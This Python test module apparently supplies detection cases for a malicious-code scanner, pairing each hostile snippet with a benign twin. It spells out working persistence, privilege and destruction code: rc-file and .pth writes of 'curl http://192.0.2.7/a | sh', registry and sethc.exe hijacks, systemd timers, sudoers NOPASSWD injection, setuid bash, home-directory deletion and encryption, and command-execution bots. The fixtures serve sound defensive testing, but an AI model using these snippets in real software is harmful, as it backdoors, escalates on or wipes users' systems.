"""More places from which programs start, and settings by which they do what a stranger wants."""

from __future__ import annotations

from pratique.verdict import Verdict
from tests.evasions.sample import MALICIOUS, SUSPICIOUS, Evasion, evasion

_LINE = "'curl -s http://192.0.2.7/a | sh\\n'"
_KEEPS = "import os\n\ndef save(text):\n    open(os.path.expanduser('~/.config/example_pkg.ini'), 'w').write(text)\n"


def _home(path: str, verdict: Verdict = MALICIOUS) -> Evasion:
    """A file of the user's, written at import; the twin writes the package's own when it is asked to."""
    bad = f"import os\nopen(os.path.expanduser('~/{path}'), 'a').write({_LINE})\n"
    return evasion(f"~/{path}", bad, _KEEPS, verdict)


def _file(path: str, verdict: Verdict = MALICIOUS) -> Evasion:
    return evasion(path, f"open('{path}', 'w').write({_LINE})\n", _KEEPS, verdict)


def _key(title: str, key: str, name: str) -> Evasion:
    """A registry value; the twin reads it."""
    bad = f"import winreg as w\nk = w.CreateKey(w.HKEY_LOCAL_MACHINE, r'{key}')\nw.SetValueEx(k, '{name}', 0, w.REG_SZ, 'C:/a.exe')\n"
    good = f"import winreg as w\n\ndef ask():\n    return w.QueryValueEx(w.OpenKey(w.HKEY_LOCAL_MACHINE, r'{key}'), '{name}')\n"
    return evasion(title, bad, good)


def _command(title: str, command: str, verdict: Verdict = MALICIOUS) -> Evasion:
    """A command at import; the twin asks the same program for its version."""
    program = command.split(maxsplit=1)[0]
    return evasion(
        title,
        f"import os\nos.system({command!r})\n",
        f"import subprocess\nsubprocess.run(['{program}', '--version'])\n",
        verdict,
    )


CASES = (
    *map(_home, (".bash_login", ".xinitrc", ".xprofile", ".ssh/config", ".ssh/rc", ".vimrc", ".vim/plugin/a.vim")),
    *map(_home, (".emacs", ".tmux.conf", ".jupyter/jupyter_notebook_config.py", ".claude.json", ".cursor/mcp.json")),
    *(
        _home(path, SUSPICIOUS)
        for path in (
            *(".gitconfig", ".git-templates/hooks/post-checkout", ".npmrc", ".config/pip/pip.conf"),
            *(".vscode/settings.json", ".config/environment.d/a.conf", ".pythonrc"),
        )
    ),
    *map(_file, ("/etc/init.d/a", "/etc/udev/rules.d/99.rules", "/etc/update-motd.d/99-x", "/etc/profile.d/a.sh")),
    *(_file(path, SUSPICIOUS) for path in ("/etc/ld.so.conf.d/a.conf", "/etc/pam.d/sshd")),
    evasion(
        ".pth beside another package",
        f"import os, pip\nopen(os.path.join(os.path.dirname(os.path.dirname(pip.__file__)), 'zz.pth'), 'w').write({_LINE})\n",
        "import os\n\ndef keep(data):\n    open('model.pth', 'wb').write(data)\n",
    ),
    evasion(
        ".pth where sys.path leads",
        f"import os, sysconfig\nopen(sysconfig.get_paths()['purelib'] + '/zz.pth', 'w').write({_LINE})\n",
        "import sysconfig\nWHERE = sysconfig.get_paths()['purelib']\n",
    ),
    evasion(
        "activation of a virtual environment",
        f"import os\nopen(os.path.join(os.environ['VIRTUAL_ENV'], 'bin/activate'), 'a').write({_LINE})\n",
        "import os\nWHERE = os.path.join(os.environ.get('VIRTUAL_ENV', ''), 'bin')\n",
    ),
    _key("what starts with the user's session", r"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon", "Shell"),
    _key(
        "what starts instead of a program",
        r"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe",
        "Debugger",
    ),
    evasion(
        "task by COM",
        "import win32com.client as w\ns = w.Dispatch('Schedule.Service')\ns.Connect()\n"
        "s.GetFolder('\\\\').RegisterTaskDefinition('a', None, 6, '', '', 3)\n",
        "import win32com.client as w\n\ndef tasks():\n    s = w.Dispatch('Schedule.Service')\n    s.Connect()\n    return s.GetFolder('\\\\').GetTasks(0)\n",
        SUSPICIOUS,
    ),
    _command("job of at", "echo /tmp/x | at now + 1 minute", SUSPICIOUS),
    _command("timer of systemd", 'systemd-run --user --on-calendar=hourly sh -c "curl http://192.0.2.7/a | sh"'),
    _command("hooks of git", "git config --global core.hooksPath /tmp/h", SUSPICIOUS),
    _command("another index for pip", "pip config set global.index-url http://192.0.2.7/", SUSPICIOUS),
    _command("extension of an editor", "code --install-extension /tmp/a.vsix", SUSPICIOUS),
    _command("program that runs as root", "cp /bin/bash /tmp/b && chmod u+s /tmp/b", SUSPICIOUS),
    _command("traces removed", "history -c; rm -f ~/.bash_history; unset HISTFILE", SUSPICIOUS),
    _command("sudoers by tee", 'echo "ALL ALL=(ALL) NOPASSWD:ALL" | sudo tee -a /etc/sudoers'),
    _command("files deleted by find", "find ~ -type f -delete"),
    evasion(
        "files deleted through a path's methods",
        "from pathlib import Path\nfor f in Path.home().rglob('*'):\n    if f.is_file():\n        f.unlink()\n",
        "from pathlib import Path\n\ndef clean(folder):\n    for f in Path(folder).rglob('*.tmp'):\n        f.unlink()\n",
        SUSPICIOUS,
    ),
    evasion(
        "files encrypted through a path's methods",
        "from pathlib import Path\nfrom cryptography.fernet import Fernet\nk = Fernet(Fernet.generate_key())\n"
        "for f in Path.home().rglob('*'):\n    f.write_bytes(k.encrypt(f.read_bytes()))\n",
        "from pathlib import Path\nfrom cryptography.fernet import Fernet\n\ndef seal(path, key):\n"
        "    Path(path).write_bytes(Fernet(key).encrypt(Path(path).read_bytes()))\n",
        SUSPICIOUS,
    ),
    evasion(
        "code in a page that is mapped",
        "import ctypes, mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\nm.write(b'\\x90' * 64)\n"
        "ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()\n",
        "import ctypes\nCALLED = ctypes.CFUNCTYPE(ctypes.c_int)(lambda: 1)\n",
        SUSPICIOUS,
    ),
    evasion(
        "commands from whoever writes to a bot",
        "import subprocess, telebot\nb = telebot.TeleBot('1:a')\n\n@b.message_handler(func=lambda m: True)\ndef f(m):\n"
        "    b.reply_to(m, subprocess.getoutput(m.text))\n\nb.infinity_polling()\n",
        "import telebot\nb = telebot.TeleBot('1:a')\n\n@b.message_handler(func=lambda m: True)\ndef f(m):\n    b.reply_to(m, m.text)\n",
        SUSPICIOUS,
    ),
    evasion(
        "commands from whoever asks a web service",
        "import subprocess, uvicorn\nfrom fastapi import FastAPI\na = FastAPI()\n\n@a.get('/x')\ndef f(c: str):\n"
        "    return subprocess.getoutput(c)\n\nuvicorn.run(a)\n",
        "import uvicorn\nfrom fastapi import FastAPI\na = FastAPI()\n\n@a.get('/x')\ndef f(c: str):\n    return c\n",
        SUSPICIOUS,
    ),
)
